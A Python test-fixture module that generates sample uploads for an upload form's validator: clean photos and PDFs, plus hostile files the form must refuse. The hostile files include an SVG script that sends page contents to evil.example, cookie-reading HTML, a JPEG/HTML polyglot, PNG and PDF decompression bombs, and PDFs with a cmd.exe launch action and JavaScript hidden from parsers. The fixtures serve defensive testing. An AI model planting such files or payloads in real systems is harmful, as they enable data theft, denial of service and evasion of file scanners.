"""Test files, made in code: good photos and PDFs, and the hostile ones an upload form must refuse."""

import functools
import io
import struct
import zlib

import pillow_heif
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

GPS_IFD = 0x8825
ORIENTATION = 0x0112
PAGE_TEXT = b"BT /F1 24 Tf 72 760 Td (Scheur in de gevel boven de voordeur) Tj ET"


def photo(size=(60, 40), color=(180, 60, 40)) -> Image.Image:
    image = Image.new("RGB", size, color)
    image.paste((20, 200, 20), (0, 0, size[0] // 3, size[1] // 3))  # a marker in the top-left corner
    return image


def jpeg_with_gps_and_orientation(size=(60, 40)) -> bytes:
    """A phone photo: GPS position of a house in Heerlen, camera make, a comment, turned by EXIF (6 = 90°)."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x010F] = "Telefoonmerk"
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (50.0, 53.0, 17.0), 3: "E", 4: (5.0, 58.0, 44.0)})
    out = io.BytesIO()
    photo(size).save(out, format="JPEG", exif=exif, comment=b"Akerstraat 12 Heerlen", quality=90)
    return out.getvalue()


def jpeg(size=(60, 40)) -> bytes:
    out = io.BytesIO()
    photo(size).save(out, format="JPEG", quality=90)
    return out.getvalue()


def png(size=(50, 30), mode="RGBA") -> bytes:
    out = io.BytesIO()
    image = photo(size).convert(mode)
    image.save(out, format="PNG", pnginfo=_png_text("Comment", "verborgen tekst"))
    return out.getvalue()


def _png_text(key, value):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text(key, value)
    return info


def heic(size=(64, 48)) -> bytes:
    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    photo(size).save(out, format="HEIF", quality=80)
    return out.getvalue()


def can_encode_heic() -> bool:
    try:
        return len(heic((16, 16))) > 0
    except Exception:  # no HEVC encoder in this libheif build
        return False


def truncated_jpeg() -> bytes:
    # A real photo with noise (so the scan data is long), cut off halfway through the pixels.
    image = Image.effect_noise((400, 300), 64).convert("RGB")
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=95)
    data = out.getvalue()
    return data[: len(data) // 2]


@functools.cache
def png_bomb(width=30000, height=30000) -> bytes:
    """A 1-bit PNG of 900 million pixels: half a megabyte on disk, 112 MB (2.7 GB as RGB) once decoded."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = (b"\x00" + bytes((width + 7) // 8)) * 1000  # filter byte, then all-black pixels
    packer = zlib.compressobj(1)
    compressed = b"".join(packer.compress(rows) for _ in range(height // 1000)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", compressed) + chunk(b"IEND", b"")


# --- executables and markup ----------------------------------------------------------------------

def windows_exe() -> bytes:
    dos_header = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48)
    return dos_header + b"This program cannot be run in DOS mode."


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(100)


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b"<script>fetch('/mijn/').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script>"
            b'<rect width="10" height="10"/></svg>')


def html() -> bytes:
    return b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def zip_file() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("foto.jpg", jpeg())
    return out.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG with an HTML page after the end marker: re-encoding must drop it."""
    return jpeg() + b"<html><script>alert(1)</script></html>"


# --- PDFs ----------------------------------------------------------------------------------------

def build_pdf(objects: list[bytes], *, orphans: bytes = b"", version: bytes = b"1.4") -> bytes:
    """A PDF from object bodies (object i+1 = objects[i]; object 1 is the catalog), with a correct xref.

    `orphans` are written between the objects and the xref, so no xref entry points at them.
    """
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += orphans
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at)
    return bytes(out)


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), extra) + body + b"\nendstream"


def page_objects(catalog_extra: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(PAGE_TEXT),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf() -> bytes:
    """An ordinary one-page letter."""
    return build_pdf(page_objects())


def pdf_open_at_first_page() -> bytes:
    """The OpenAction LibreOffice writes: open at page 1. Harmless, so it must be accepted."""
    return build_pdf(page_objects(b"/OpenAction [3 0 R /XYZ null null 0] "))


def pdf_open_action_uri() -> bytes:
    """Opens a web address as soon as the PDF is opened."""
    return build_pdf([*page_objects(b"/OpenAction 6 0 R "), b"<< /S /URI /URI (https://evil.example/) >>"])


def pdf_with_javascript_open_action() -> bytes:
    """JavaScript that runs when the PDF is opened, written by pypdf's writer."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('Uw computer is besmet. Bel 0900-1234.');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("factuur.exe", b"MZ\x90\x00 not really a program")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_launch_action() -> bytes:
    return build_pdf([*page_objects(b"/OpenAction 6 0 R "), b"<< /S /Launch /F (cmd.exe) >>"])


def pdf_with_hidden_orphan_javascript() -> bytes:
    """JavaScript in an object no xref entry points at, its name spelled with #-escapes: pypdf never sees it."""
    orphan = b"99 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n"
    return build_pdf(page_objects(), orphans=orphan)


def pdf_with_javascript_in_object_stream() -> bytes:
    """The JavaScript action sits compressed in an object stream: only a real parse can find it."""
    return pdf_with_object_stream(b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\)) >>",
                                  catalog_extra=b"/OpenAction 7 0 R ")


def pdf_with_object_stream(packed: bytes, *, catalog_extra: bytes = b"", padding: int = 0, copies: int = 1) -> bytes:
    """Objects 7, 8, ... packed (compressed) in object streams 6, ..., with an xref stream (PDF 1.5).

    `padding` bytes of spaces after each packed object make a zip bomb: tiny compressed, huge unpacked.
    """
    objects = page_objects(catalog_extra)
    first_packed = len(objects) + copies + 1
    for copy in range(copies):
        header = b"%d 0 " % (first_packed + copy)
        body = zlib.compress(header + packed + b" " * padding, 9)
        objects.append(_stream(body, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(header)))

    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_number = first_packed + copies  # after the packed objects
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    rows += [struct.pack(">BIH", 2, first_packed - copies + copy, 0) for copy in range(copies)]
    rows += [struct.pack(">BIH", 1, xref_at, 0)]
    table = b"".join(rows)
    out += b"%d 0 obj\n" % xref_number
    out += _stream(table, b"/Type /XRef /W [1 4 2] /Size %d /Root 1 0 R " % (xref_number + 1))
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_object_stream_bomb() -> bytes:
    """20 kB on disk; its object stream unpacks to 20 MB."""
    return pdf_with_object_stream(b"<< /Producer (Scanner) >>", padding=20 * 1024 * 1024)


def pdf_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="geheim", owner_password="nog-geheimer", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_broken() -> bytes:
    """Starts like a PDF, but there is no structure behind the header."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8


def html_named_pdf() -> bytes:
    return b"<html><body><h1>Factuur</h1><script>document.location='https://evil.example'</script></body></html>"
